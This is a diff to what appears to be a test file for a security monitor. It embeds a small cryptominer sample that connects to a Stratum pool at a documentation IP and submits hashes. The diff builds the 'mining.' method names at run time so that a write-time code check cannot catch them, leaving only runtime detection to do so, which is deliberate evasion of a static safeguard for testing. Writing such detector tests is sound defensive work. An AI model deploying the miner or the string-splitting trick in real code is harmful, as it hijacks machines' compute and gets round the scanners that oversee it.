@@ -18,12 +18,16 @@ from bastion.respond import Responder
 
 from .monitor import events_of
 
+# The method names are put together at run time: a pool client whose text carries them
+# is refused when it is written (mining.stratum_client_code); this one is the case only
+# the runtime path (the gateway naming Stratum on the wire) can catch.
 MINER = r"""
 import hashlib, json, socket
+M = "mining" + "."
 def pool():
     try:
         s = socket.create_connection(("203.0.113.33", 3333), 5)
-        s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["w"]}).encode()
+        s.sendall(json.dumps({"id": 1, "method": M + "subscribe", "params": ["w"]}).encode()
                   + b"\n")
         return s
     except OSError:
@@ -36,7 +40,7 @@ while True:
     n += 1
     if n % 200000 == 0:
         try:
-            s.sendall(json.dumps({"id": 4, "method": "mining.submit",
+            s.sendall(json.dumps({"id": 4, "method": M + "submit",
                                   "params": [h.hex()]}).encode() + b"\n")
         except (OSError, AttributeError):
             s = pool()
